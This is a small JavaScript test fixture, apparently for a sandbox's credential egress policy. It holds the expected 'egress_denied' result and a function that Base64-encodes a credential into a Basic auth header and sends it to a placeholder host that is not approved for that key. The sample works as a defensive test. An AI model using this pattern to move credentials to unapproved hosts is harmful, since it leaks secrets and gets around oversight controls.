export const attempt = {
  tries: "to send a value that it was given itself to another host within Basic",
  refusedBecause: "what Basic packs is searched",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  const authorization = `Basic ${btoa(`me:${credentials.KEY}`)}`;
  await fetch(`http://${other}/reached`, { headers: { authorization } });
  return "got through";
};
